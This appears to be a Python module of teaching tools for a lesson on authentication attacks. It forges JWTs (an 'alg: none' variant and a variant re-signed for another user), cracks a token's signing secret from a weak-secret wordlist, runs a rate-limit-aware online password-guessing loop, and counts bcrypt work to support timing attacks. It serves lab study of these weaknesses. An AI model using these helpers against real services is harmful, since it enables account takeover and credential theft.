"""The attacks of lesson 08, each short enough to read. Only attack servers that are yours.

The first half works offline, where no server can count the attempts. The second half sends requests
to a server.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from importlib.resources import files
from typing import Any, Protocol
from unittest.mock import patch

import bcrypt

from client_widget.protocol.jwt_by_hand import sign, split, unsigned, with_payload
from client_widget.protocol.tokens import read_claims

#: Anything of the form of a JWT (RFC 7515, section 3.1), with or without a signature.
TOKEN = re.compile(r"eyJ[\w-]+\.eyJ[\w-]+\.[\w-]*", re.ASCII)


class HttpAnswer(Protocol):
    """The two things that are read of a response, such as one of requests."""

    @property
    def status_code(self) -> int: ...

    @property
    def headers(self) -> Any: ...


# Offline


def weak_secrets() -> tuple[str, ...]:
    """About 400 well-known secrets and passwords, the most common ones first."""
    text = files(__package__).joinpath("weak_secrets.txt").read_text()
    return tuple(text.splitlines())


def claims_for(token: str, username: str) -> str:
    """The payload of a token, made out to another user.

    The user is in the claim `sub` (RFC 7519, section 4.1.2) or, in the article's design,
    in `username`.
    """
    claims = read_claims(token)
    return json.dumps({**claims, "sub" if "sub" in claims else "username": username})


def forge_none(token: str, username: str) -> str:
    """The token made out to another user, and declared to need no signature: `alg: none`."""
    return unsigned(with_payload(token, claims_for(token, username)))


def forge_signed(token: str, username: str, secret: str) -> str:
    """The token made out to another user, and signed with the secret."""
    return sign(split(token).header_text, claims_for(token, username), secret)


def find_secret(token: str, words: Iterable[str]) -> str | None:
    """The word that signed a token, or None.

    The signature is the proof: sign header and payload with each word until it is the same.
    """
    parts = split(token)
    for word in words:
        if sign(parts.header_text, parts.payload_text, word) == token:
            return word
    return None


def grep_tokens(text: str) -> list[str]:
    """Everything in a text that has the form of a token."""
    return TOKEN.findall(text)


def active_markup(page: str) -> list[str]:
    """What a browser would run on a page (XSS), such as "img onerror"; nothing is run here."""
    found: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.extend(f"{tag} {name}" for name, _ in attrs if name.startswith("on"))
            if tag == "script":
                found.append("script")

    Reader().feed(page)
    return found


def notebook_with(*outputs: dict[str, Any]) -> dict[str, Any]:
    """A notebook with one cell for each output. It is JSON (nbformat 4.5), so a dict will do.

    nbformat would make the same, and takes two seconds to import.
    """
    cells = [
        {
            "id": f"cell-{number}",
            "cell_type": "code",
            "source": "show()",
            "metadata": {},
            "execution_count": number,
            "outputs": [output],
        }
        for number, output in enumerate(outputs, 1)
    ]
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}


def shown(value: object) -> dict[str, Any]:
    """The output of a cell whose last line is `value`, as Jupyter saves it: its `repr`."""
    data = {"text/plain": repr(value)}
    return {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": data}


# Online


@dataclass(frozen=True)
class Guessing:
    """How far an attacker got with a list of passwords.

    Attributes:
        tries (int): passwords that the server compared.
        waited (int): seconds that the server made the attacker wait.
        password (str | None): the right one, if it was found.
    """

    tries: int
    waited: int
    password: str | None = field(repr=False)

    def __str__(self) -> str:
        end = "not found" if self.password is None else "found"
        return f"{self.tries} passwords tried, {self.waited} s waited: {end}"


def guess(
    log_in: Callable[[str], HttpAnswer],
    words: Iterable[str],
    *,
    wait: Callable[[float], object] | None = None,
    patience: float = 0,
) -> Guessing:
    """Try words as passwords until one is right, or until patience ends.

    Args:
        log_in: tries a password and returns the response.
        words (Iterable[str]): the passwords.
        wait: called with the seconds that the server asks for (429 and `Retry-After`, RFC 6585,
            section 4), and returns after them: `clock.advance` on a lab's clock.
        patience (float): seconds to wait in all, at most.
    """
    tries = waited = 0
    for word in words:
        answer = log_in(word)
        while answer.status_code == 429:
            seconds = int(answer.headers["Retry-After"])
            if wait is None or waited + seconds > patience:
                return Guessing(tries, waited, None)
            wait(seconds)
            waited += seconds
            answer = log_in(word)
        tries += 1
        if answer.status_code < 300:
            return Guessing(tries, waited, word)
    return Guessing(tries, waited, None)


@contextmanager
def password_checks() -> Iterator[list[int]]:
    """Count bcrypt's work inside a block: the cost of each hash that it computes.

    A stranger measures the time instead. The count shows the same, and is the same in every run.
    """
    costs: list[int] = []
    lock = threading.Lock()

    def counted(original: Callable[[bytes, bytes], Any]) -> Callable[[bytes, bytes], Any]:
        def call(password: bytes, salt: bytes) -> Any:
            with lock:
                # "$2b$10$…": bcrypt's version, and its rounds as a power of two.
                costs.append(int(salt.split(b"$")[2]))
            return original(password, salt)

        return call

    with (
        patch.object(bcrypt, "checkpw", counted(bcrypt.checkpw)),
        patch.object(bcrypt, "hashpw", counted(bcrypt.hashpw)),
    ):
        yield costs


def shortest(call: Callable[[], object], times: int) -> float:
    """The shortest time of a call, in seconds: a disturbance only makes it longer."""

    def once() -> float:
        start = time.perf_counter()
        call()
        return time.perf_counter() - start

    return min(once() for _ in range(times))
